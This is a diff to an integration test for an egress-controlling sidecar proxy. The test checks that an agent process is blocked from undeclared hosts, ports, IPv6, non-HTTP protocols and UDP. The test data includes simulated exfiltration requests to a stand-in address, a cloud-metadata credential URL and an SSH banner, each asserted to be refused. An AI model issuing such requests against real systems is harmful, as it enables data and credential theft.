@@ -21,7 +21,18 @@ no new privileges) with ``--mode transparent``. Shown:
 * the same agent trusting only the upstream's real CA fails TLS - it is never let through
   directly;
 * a process under the sidecar's own UID goes out directly (real certificate, no injected
-  credentials, absent from the recording).
+  credentials, absent from the recording);
+* nothing else gets out (issue 11 item 9): every other TCP connection of the agent - another
+  port of the connection's host, any other host and port, the cloud metadata address, the
+  same over IPv6, a protocol that is not HTTP - reaches the sidecar instead of its listener
+  (each listener, a :class:`Trap`, counts the connections it accepts: none), is refused and
+  recorded; a declared non-443 port (``tickets.chaperone.test:8443``) is intercepted over TLS
+  like 443; UDP leaves only to the pod's resolver (``/etc/netns/<pod>/resolv.conf``), TCP 53
+  to it stays direct.
+
+The pod namespace has a default route (IPv4 and IPv6) to the other namespace, which also holds
+``198.51.100.7`` and ``169.254.169.254``, so without the rules every one of those connections
+would succeed.
 """
 
 from __future__ import annotations
@@ -29,7 +40,6 @@ from __future__ import annotations
 import ctypes
 import json
 import os
-import shlex
 import shutil
 import socket
 import ssl
@@ -43,7 +53,7 @@ from pathlib import Path
 import boto3
 import pytest
 
-from chaperone_operator.injection.iptables import iptables_rules
+from chaperone_operator.injection.iptables import iptables_rules, iptables_script
 from chaperone_operator.injection.settings import InjectionSettings
 
 from .pod import (HTTPSUpstream, InjectedPod, base_env, connection, policy, rmtree, sessions_cli,
@@ -52,6 +62,8 @@ from .pod import (HTTPSUpstream, InjectedPod, base_env, connection, policy, rmtr
 SIDECAR_UID = 1337  # the injection default (InjectionSettings.sidecar_uid)
 AGENT_UID = 4242
 POD_IP, UP_IP = "10.203.0.1", "10.203.0.2"
+POD_IP6, UP_IP6 = "fd00:203::1", "fd00:203::2"
+OTHER_IP, METADATA_IP = "198.51.100.7", "169.254.169.254"  # held by the "up" namespace
 UPSTREAM_NAME = "tickets.chaperone.test"
 TOKEN = "transparent-token-3c9d"
 MANIFEST_KEY = "transparent-manifest-hmac-key-0123456789"
@@ -162,12 +174,21 @@ def pod_network():
         sh("ip", "link", "add", veth_pod, "type", "veth", "peer", "name", veth_up)
         sh("ip", "link", "set", veth_pod, "netns", pod_ns)
         sh("ip", "link", "set", veth_up, "netns", up_ns)
-        for ns, dev, ip in ((pod_ns, veth_pod, POD_IP), (up_ns, veth_up, UP_IP)):
+        for ns, dev, ip, ip6 in ((pod_ns, veth_pod, POD_IP, POD_IP6), (up_ns, veth_up, UP_IP, UP_IP6)):
             sh("ip", "-n", ns, "addr", "add", f"{ip}/30", "dev", dev)
+            sh("ip", "-n", ns, "addr", "add", f"{ip6}/64", "dev", dev, "nodad")
             sh("ip", "-n", ns, "link", "set", "lo", "up")
             sh("ip", "-n", ns, "link", "set", dev, "up")
+        # "The internet": every address is routed to the other namespace, which also holds an
+        # arbitrary public address and the cloud metadata address.
+        sh("ip", "-n", pod_ns, "route", "add", "default", "via", UP_IP)
+        sh("ip", "-n", pod_ns, "-6", "route", "add", "default", "via", UP_IP6)
+        for extra in (OTHER_IP, METADATA_IP):
+            sh("ip", "-n", up_ns, "addr", "add", f"{extra}/32", "dev", "lo")
         etc.mkdir(parents=True, exist_ok=True)
         (etc / "hosts").write_text(f"127.0.0.1 localhost\n::1 localhost\n{UP_IP} {UPSTREAM_NAME}\n")
+        # The pod's resolver (the kubelet writes resolv.conf from dnsPolicy): the "up" side.
+        (etc / "resolv.conf").write_text(f"nameserver {UP_IP}\noptions ndots:5\n")
         yield pod_ns, up_ns
     finally:
         for ns in (pod_ns, up_ns):
@@ -178,6 +199,47 @@ def pod_network():
                 Path("/etc/netns").rmdir()
             except OSError:
                 pass
+
+
+class Trap:
+    """A listener in the "up" namespace that only counts what reaches it (TCP: accepted
+    connections; UDP: datagrams). Whatever the agent tried, a non-zero count means it got
+    past the sidecar."""
+
+    def __init__(self, netns: str, host: str, port: int, *, udp: bool = False):
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        kind = socket.SOCK_DGRAM if udp else socket.SOCK_STREAM
+
+        def bind() -> socket.socket:
+            sock = socket.socket(family, kind)
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            sock.bind((host, port))
+            if not udp:
+                sock.listen(16)
+            return sock
+
+        self.sock = in_netns(netns, bind)
+        self.sock.settimeout(0.2)
+        self.udp = udp
+        self.hits: list[object] = []
+        self.closed = False
+        threading.Thread(target=self._run, daemon=True).start()
+
+    def _run(self) -> None:
+        while not self.closed:
+            try:
+                if self.udp:
+                    self.hits.append(self.sock.recvfrom(65536))
+                else:
+                    conn, peer = self.sock.accept()
+                    self.hits.append(peer)
+                    conn.close()
+            except (socket.timeout, OSError):
+                continue
+
+    def close(self) -> None:
+        self.closed = True
+        self.sock.close()
 
 
 RAW_CLIENT = textwrap.dedent("""
@@ -198,25 +260,72 @@ RAW_CLIENT = textwrap.dedent("""
 """)
 
 
+NOT_HTTP_CLIENT = textwrap.dedent("""
+    # An agent speaking something that is not HTTP (an SSH banner) to an arbitrary port.
+    import socket, sys
+    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10) as sock:
+        sock.sendall(b"SSH-2.0-OpenSSH_9.6 agent\\r\\n")
+        data = b""
+        try:
+            while chunk := sock.recv(65536):
+                data += chunk
+        except OSError:
+            pass
+    print(data[:12].decode(errors="replace"))
+""")
+
+UDP_CLIENT = textwrap.dedent("""
+    # One datagram; prints "sent" or the error the kernel gave the sender.
+    import socket, sys
+    host, port = sys.argv[1], int(sys.argv[2])
+    family = socket.AF_INET6 if ":" in host else socket.AF_INET
+    with socket.socket(family, socket.SOCK_DGRAM) as sock:
+        try:
+            sock.sendto(b"exfiltrate", (host, port))
+            print("sent")
+        except OSError as exc:
+            print(f"error {exc.errno}")
+""")
+
+TCP_CONNECT = textwrap.dedent("""
+    import socket, sys
+    with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10):
+        print("connected")
+""")
+
+
 def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
         pod_network, control_plane, crds_installed, s3_server):
     pod_ns, up_ns = pod_network
     root = Path(os.environ.get("TMPDIR", "/tmp")) / f"chaperone-transparent-{uuid.uuid4().hex[:8]}"
     root.mkdir(mode=0o755)
     forwarders: list[Forwarder] = []
-    upstream = sidecar = None
+    traps: dict[str, Trap] = {}
+    upstream = upstream_8443 = sidecar = None
     try:
-        # ---- "the internet": an HTTPS upstream on 443 in the other namespace
+        # ---- "the internet": HTTPS upstreams on 443 and 8443 in the other namespace
         listener = in_netns(up_ns, lambda: socket.create_server((UP_IP, 443)))
         upstream = HTTPSUpstream(root / "upstream", sock=listener, names=(UPSTREAM_NAME,), ips=(UP_IP,))
         assert upstream.port == 443
+        listener = in_netns(up_ns, lambda: socket.create_server((UP_IP, 8443)))
+        upstream_8443 = HTTPSUpstream(root / "upstream-8443", sock=listener, names=(UPSTREAM_NAME,),
+                                      ips=(UP_IP,))
+        # ...and listeners no agent connection may ever reach
+        for key, host, port, udp in (("tickets:9443", UP_IP, 9443, False), ("tickets:8080", UP_IP, 8080, False),
+                                     ("tickets:2222", UP_IP, 2222, False), ("other:7777", OTHER_IP, 7777, False),
+                                     ("metadata:80", METADATA_IP, 80, False), ("v6:9000", UP_IP6, 9000, False),
+                                     ("v6:443", UP_IP6, 443, False), ("dns:53/tcp", UP_IP, 53, False),
+                                     ("dns:53/udp", UP_IP, 53, True), ("udp:5353", UP_IP, 5353, True),
+                                     ("udp6:5353", UP_IP6, 5353, True)):
+            traps[key] = Trap(up_ns, host, port, udp=udp)
 
         # ---- the cluster: connection, policy, recording bucket
         s3 = boto3.client("s3", **s3_server.client_kwargs())
         bucket = f"transparent-{uuid.uuid4().hex[:8]}"
         s3.create_bucket(Bucket=bucket)
         ns = f"transp-{uuid.uuid4().hex[:8]}"
-        conns = [connection("tickets", {"type": "http", "hosts": [UPSTREAM_NAME],
+        # Ports named: 443 and 8443 are declared, every other port of the host is not.
+        conns = [connection("tickets", {"type": "http", "hosts": [f"{UPSTREAM_NAME}:443", f"{UPSTREAM_NAME}:8443"],
                                         "credentials": {"source": "secret", "secretRef": {"name": "tok"}},
                                         "upstreamCA": {"kind": "ConfigMap", "name": "up-ca", "key": "ca.crt"}})]
         setup_namespace(control_plane, ns, conns + [policy("tickets", {"connections": ["tickets"], "rules": [
@@ -232,19 +341,27 @@ def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
                                    "chaperone-sidecar": {"AWS_ACCESS_KEY_ID": s3_server.access_key,
                                                          "AWS_SECRET_ACCESS_KEY": s3_server.secret_key,
                                                          "MANIFEST_KEY": MANIFEST_KEY}},
-                          configmaps={"up-ca": {"ca.crt": upstream.ca_file.read_bytes()}})
+                          configmaps={"up-ca": {"ca.crt": upstream.ca_file.read_bytes()
+                                                    + upstream_8443.ca_file.read_bytes()}})
         pod.chown(settings.sidecar_uid, settings.sidecar_gid)  # fsGroup, in effect
         upstream.ca_file.chmod(0o644)
-        for path in (root, root / "upstream"):
+        for path in (root, root / "upstream", root / "upstream-8443"):
             path.chmod(0o755)
 
         # ---- the init container: exactly its command, in the pod's namespace
         assert pod.init is not None and pod.init["command"] == ["/bin/sh", "-c"]
         script = pod.init["args"][0]
-        assert script.splitlines()[1:] == [shlex.join(r) for r in iptables_rules(settings)]
+        assert script == iptables_script(settings)
         sh("ip", "netns", "exec", pod_ns, "/bin/sh", "-c", script)
+        # It installed exactly iptables_rules() for the pod's resolver, in both families.
+        expected = iptables_rules(settings, [UP_IP])
+        for binary in ("iptables", "ip6tables"):
+            for table in ("nat", "filter"):
+                listed = sh("ip", "netns", "exec", pod_ns, binary, "-t", table, "-S", "OUTPUT").stdout
+                installed = [line for line in listed.splitlines() if line.startswith("-A OUTPUT")]
+                assert len(installed) == sum(1 for r in expected if r[0] == binary and r[3] == table), listed
         rules = sh("ip", "netns", "exec", pod_ns, "iptables", "-t", "nat", "-S", "OUTPUT").stdout
-        assert f"--uid-owner {SIDECAR_UID}" in rules and "--dport 443" in rules and "--to-ports 15001" in rules
+        assert f"--uid-owner {SIDECAR_UID}" in rules and "--to-ports 15001" in rules and "--dport 443" not in rules
 
         # ---- the cluster network, seen from the pod: apiserver and S3 on the same loopback ports
         api_port = int(control_plane.url.rsplit(":", 1)[1])
@@ -316,6 +433,45 @@ def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
                  f"{url}/not-intercepted", check=False)
         assert out.returncode == 60, out.stderr  # the interception CA is not what answers it
 
+        # 4. nothing else gets out (issue 11 item 9). Before: only 80/443 were redirected.
+        def agent_py(script: str, *args: str, uid: int = AGENT_UID) -> subprocess.CompletedProcess:
+            return sh(*as_user(pod_ns, uid), sys.executable, "-c", script, *args, env=agent_env, check=False)
+
+        # (d) a declared non-443 port: intercepted over TLS like 443, credentials injected
+        code, body = agent_curl(f"{url}:8443/tickets/8443")
+        assert code == 200 and json.loads(body)["path"] == "/tickets/8443", body
+        assert [r["headers"]["authorization"] for r in upstream_8443.seen] == [f"Bearer {TOKEN}"]
+        # (a) an undeclared port of the declared host: TLS and plain HTTP, refused by the sidecar
+        code, body = agent_curl(f"{url}:9443/undeclared-port")
+        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
+        code, body = agent_curl(f"http://{UPSTREAM_NAME}:8080/undeclared-plain")
+        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
+        # ... and something that is not HTTP at all: closed, never connected through
+        out = agent_py(NOT_HTTP_CLIENT, UP_IP, "2222")
+        assert out.returncode == 0 and "SSH" not in out.stdout, out.stdout + out.stderr
+        # (b) any other host on any port, and the cloud metadata address
+        code, body = agent_curl(f"http://{OTHER_IP}:7777/exfiltrate")
+        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
+        code, body = agent_curl(f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/")
+        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
+        # (c) IPv6: an undeclared address, and the declared name reached over IPv6
+        code, body = agent_curl("-g", f"http://[{UP_IP6}]:9000/over-ipv6")
+        assert code == 403 and json.loads(body)["error"] == "chaperone_no_connection", body
+        code, body = agent_curl("--resolve", f"{UPSTREAM_NAME}:443:[{UP_IP6}]", f"{url}/tickets/v6")
+        assert code == 200 and json.loads(body)["path"] == "/tickets/v6", body  # via the sidecar, over v4
+        # UDP: only DNS to the pod's resolver leaves; TCP 53 to it stays direct
+        assert agent_py(UDP_CLIENT, UP_IP, "5353").stdout.strip().startswith("error"), "UDP got out"
+        assert agent_py(UDP_CLIENT, UP_IP6, "5353").stdout.strip().startswith("error"), "UDP6 got out"
+        assert agent_py(UDP_CLIENT, UP_IP, "53").stdout.strip() == "sent"
+        assert agent_py(TCP_CONNECT, UP_IP, "53").stdout.strip() == "connected"
+        wait_for(lambda: traps["dns:53/udp"].hits and traps["dns:53/tcp"].hits, 10, "DNS to the resolver")
+        # the sidecar UID's own UDP is not affected (the rules are not simply a broken network)
+        assert agent_py(UDP_CLIENT, UP_IP, "5353", uid=SIDECAR_UID).stdout.strip() == "sent"
+        wait_for(lambda: traps["udp:5353"].hits, 10, "the sidecar UID's datagram")
+        assert len(traps["udp:5353"].hits) == 1 and not traps["udp6:5353"].hits
+        reached = {key: len(t.hits) for key, t in traps.items() if "dns" not in key and "udp" not in key}
+        assert reached == {key: 0 for key in reached}, reached
+
         # ---- the recording: shipped at SIGTERM, complete, verifiable
         code = pod.stop()
         assert code == 0, pod.logs()
@@ -331,6 +487,18 @@ def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
         assert "/tickets/1" in out.stdout and "/raw-socket" in out.stdout and "block" in out.stdout
         assert "/from-sidecar-uid" not in out.stdout and "/not-intercepted" not in out.stdout
         assert "/direct-attempt" not in out.stdout
+        assert "/tickets/8443" in out.stdout and "/tickets/v6" in out.stdout
+        rows = json.loads(sessions_cli("replay", session, *source, "--json", env=s3_env).stdout)["timeline"]
+        refused = {row["what"].split(" ", 1)[-1]: row["status"] for row in rows if row["status"] == 403}
+        for target in (f"https://{UPSTREAM_NAME}:9443/undeclared-port", f"http://{UPSTREAM_NAME}:8080/undeclared-plain",
+                       f"http://{OTHER_IP}:7777/exfiltrate",
+                       # mitmproxy's pretty_url leaves IPv6 literals unbracketed
+                       f"http://{UP_IP6}:9000/over-ipv6"):
+            assert any(what.endswith(target) for what in refused), (target, list(refused))
+        assert any(what.endswith(f"http://{METADATA_IP}/latest/meta-data/iam/security-credentials/")
+                   for what in refused), refused
+        closed = [row["what"] for row in rows if row["what"].startswith("error connection")]
+        assert any(f"{UP_IP}:2222 closed; nothing was forwarded" in what for what in closed), closed
         key = root / "manifest.key"
         key.write_text(MANIFEST_KEY)
         out = sessions_cli("verify", session, *source, "--key", str(key), env=s3_env)
@@ -340,6 +508,9 @@ def test_transparent_mode_captures_other_uids_and_lets_the_sidecar_uid_out(
             sidecar.stop()
         for fwd in forwarders:
             fwd.close()
-        if upstream is not None:
-            upstream.close()
+        for trap in traps.values():
+            trap.close()
+        for server in (upstream, upstream_8443):
+            if server is not None:
+                server.close()
         rmtree(root)
